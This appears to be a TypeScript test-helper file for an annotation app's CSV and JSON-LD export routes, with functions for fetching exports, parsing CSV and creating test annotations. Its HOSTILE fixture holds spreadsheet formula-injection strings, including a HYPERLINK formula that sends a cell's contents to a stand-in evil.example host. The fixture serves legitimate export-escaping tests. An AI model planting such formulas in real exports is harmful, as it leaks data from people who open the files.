import Papa from "papaparse";
import { expect } from "vitest";
import * as annotationsRoute from "@/app/api/articles/[id]/annotations/route";
import * as articlesRoute from "@/app/api/articles/route";
import * as csvRoute from "@/app/api/export/annotations.csv/route";
import * as jsonldRoute from "@/app/api/export/annotations.jsonld/route";
import { sliceCodePoints } from "@/lib/anchoring/code-points";
import { call, makeRequest, type TestUser } from "@/test/helpers";

// Test-only helpers shared by test/export*.test.ts and test/import*.test.ts (like export-rows.ts; the app never imports them).

export type TGetResult = { status: number; text: string; bytes: Uint8Array; response: Response };

/** GETs an export route as `user` and reads the whole body, whatever its type. */
export async function getExport(
  kind: "csv" | "jsonld",
  query: Record<string, string> | string = {},
  user?: TestUser,
): Promise<TGetResult> {
  const search = typeof query === "string" ? query : new URLSearchParams(query).toString();
  const path = `/api/export/annotations.${kind}${search ? `?${search}` : ""}`;
  const handler = kind === "csv" ? csvRoute.GET : jsonldRoute.GET;
  const response = await handler(await makeRequest("GET", path, { user }), { params: Promise.resolve({}) });
  const bytes = new Uint8Array(await response.arrayBuffer());
  return { status: response.status, text: new TextDecoder().decode(bytes), bytes, response };
}

/** Parses CSV as a consumer would (papaparse, RFC 4180); no errors allowed. */
export function parseCsv(text: string): string[][] {
  const result = Papa.parse<string[]>(text, { delimiter: ",", newline: "\r\n", skipEmptyLines: true });
  expect(result.errors).toEqual([]);
  return result.data;
}

/** The CSV as objects keyed by column name. */
export function csvObjects(text: string): Record<string, string>[] {
  const [header, ...rows] = parseCsv(text);
  return rows.map((row) => Object.fromEntries((header ?? []).map((column, i) => [column, row[i] ?? ""])));
}

/** Code-point offsets of the first occurrence of `quote` in `body`. */
export function offsetsOf(body: string, quote: string, from = 0) {
  const i = body.indexOf(quote, from);
  if (i < 0) throw new Error(`not in body: ${quote}`);
  const start = Array.from(body.slice(0, i)).length;
  return { start, end: start + Array.from(quote).length };
}

export async function createArticle(user: TestUser, body: Record<string, unknown>) {
  const r = await call(articlesRoute.POST, "POST", "/api/articles", {}, { user, body });
  expect(r.status, JSON.stringify(r.json)).toBe(201);
  return r.json as { id: string; body: string; title: string };
}

export async function annotate(
  user: TestUser,
  article: { id: string; body: string },
  quote: string,
  tag: string,
  note?: string,
) {
  const { start, end } = offsetsOf(article.body, quote);
  const r = await call(annotationsRoute.POST, "POST", `/api/articles/${article.id}/annotations`, { id: article.id }, {
    user,
    body: { start, end, tag, ...(note === undefined ? {} : { note }) },
  });
  expect(r.status, JSON.stringify(r.json)).toBe(201);
  expect(sliceCodePoints(article.body, start, end)).toBe(quote);
  return r.json as { id: string };
}

/** Hostile text every field of the export must carry exactly. */
export const HOSTILE = {
  title: 'The "Budget", revisited, = again',
  outlet: "=HYPERLINK(\"https://evil.example\",\"outlet\")",
  body:
    '@mention opens, "quoted, with commas" and a "double" one.\r\n' +
    "Second line\twith a tab; emoji 😀👩‍👩‍👧 and naïve café.\n\n" +
    "-5 degrees; +3 points; =SUM(A1:A2) inline.\r" +
    "A lone CR above, “curly” ‘quotes’ — done.",
  notes: [
    '=HYPERLINK("https://evil.example/?q="&A1,"Click me")',
    "a note, with a comma",
    'she said "no"',
    "line one\nline two\r\nline three",
    "😀 emoji note 👩‍👩‍👧",
    "\ttab first",
    "-minus first",
    "+plus first",
    "@at first",
    "\rcarriage return first",
  ],
  quotes: [
    '"quoted, with commas"',
    "emoji 😀👩‍👩‍👧 and naïve",
    "-5 degrees; +3 points; =SUM(A1:A2)",
    "@mention opens",
    'one.\r\nSecond line\twith',
    "inline.\rA lone CR",
    "“curly” ‘quotes’ — done.",
    "=SUM(A1:A2) inline.",
    "+3 points",
    "\twith a tab",
  ],
};
